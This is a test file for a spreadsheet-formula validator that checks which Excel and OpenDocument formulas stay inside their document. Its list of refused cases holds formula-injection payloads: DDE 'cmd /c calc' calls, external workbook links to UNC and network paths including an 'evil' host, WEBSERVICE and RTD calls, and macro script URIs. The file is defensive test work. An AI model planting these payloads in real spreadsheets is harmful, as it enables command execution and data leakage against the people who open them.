import { describe, expect, it } from 'vitest';
import { isTameFormula } from './formulas';

describe('a formula within its document', () => {
  it.each([
    ['SUM(A1:A3)&"a|b"'],
    ["'Hoja 2'!A1*Dosis!$B$2"],
    ["SUM('Ciclo 1:Ciclo 3'!A1)"],
    ["'It''s [not] a book'"],
    ['VLOOKUP(A2,Tabla1[#All],2,FALSE)/Tabla1[[#This Row],[Peso]]'],
    ['[@Dosis]/[@Peso]'],
    ['A1&"|"&Hoja2!B1'],
    ['TEXT(A1,"dd\\/mm\\/yyyy hh:mm")'],
    ['IF(A1="Total: ","Sí/No",-1)'],
    ['HYPERLINK("https://example.org/a?b=1","Guía")'],
    ['HYPERLINK("#\'Hoja 2\'!A1","Ir")'],
    ['HYPERLINK("mailto:a@example.org")'],
    ['INDIRECT("\'"&A1&"\'!B2")'],
    ['_xlfn.XLOOKUP(A1,B:B,C:C)'],
    ['[0]!Nombre'],
    ["of:=[.A1]/[.B1]+SUM([$'Hoja 1'.A1:.A3])"],
    ['of:=COM.MICROSOFT.CONCAT([.A1];"x")'],
    ['of:cell-content-is-between(1;5)'],
    ['msoxl:=A1+1'],
    ["#REF!+'Hoja 1'!#REF!"],
  ])('is accepted: %s', (formula) => {
    expect(isTameFormula(formula)).toBe(true);
  });
});

describe('a formula that leads out of its document', () => {
  it.each([
    ["'\\\\host\\share\\[x.xlsx]S'!A1"],
    ["'file:///host/share/[x.xlsx]S'!A1"],
    ["'http://host/share/[x.xlsx]S'!A1"],
    ["'//host/share/[x.xlsx]S'!A1"],
    ["'C:\\a\\[x.xlsx]S'!A1"],
    ["'sub/[x.xlsx]S'!A1"],
    ["'It''s/[x.xlsx]S'!A1"],
    ['[x.xlsx]S!A1'],
    ['INDIRECT("\'\\\\host\\share\\[x.xlsx]Sheet1\'!A1")'],
    ["\"'\"&'\\\\host\\[x]S'!A1"],
    ["cmd|'/c calc'!A0"],
    ["cmd|'/c ''calc'''!A0"],
    ['WEBSERVICE("a")'],
    ['SERVICIOWEB(A1)'],
    ['SERVIÇOWEB(A1)'],
    ['_xlfn.WEBSERVICE ("htt"&"p")'],
    ['COM.MICROSOFT.WEBSERVICE("a")'],
    ['_xlfn.IMAGE(A1)'],
    ['_xlws.PY(0,0)'],
    ['RTD("a",,"b")'],
    ['HYPERLINK("http://h/"&A1)'],
    ['HYPERLINK(A1)'],
    ['HYPERLINK("\\\\host\\a")'],
    ['HYPERLINK("file:///a")'],
    ['HIPERVÍNCULO(A1)'],
    ['of:=DDE("cmd";"/c calc";"x")'],
    ["of:=['http://evil/x.ods'#$A.A1]"],
    ["of:=['smb://evil/x.ods'#$A.A1]"],
    ["of:=['../x.ods'#$A.A1]"],
    ["of:=['x:a.ods'#$A.A1]"],
    ['formula-is(WEBSERVICE("a")=1)'],
    ['"vnd.sun.star.script:a"'],
  ])('is refused: %s', (formula) => {
    expect(isTameFormula(formula)).toBe(false);
  });

  it.each(['a', "'", "''", '|', "|'", '[', '[a]', 'vnd.', 'RUN ', 'HYPERLINK("', ' ', '"', 'url(', '1:', '\\'])(
    'is cheap to check: %j repeated',
    (piece) => {
      const began = process.cpuUsage();
      isTameFormula(piece.repeat(1_000_000));
      isTameFormula(`=(${piece.repeat(1_000_000)}`);
      expect(process.cpuUsage(began).user).toBeLessThan(5_000_000);
    },
    30_000,
  );
});
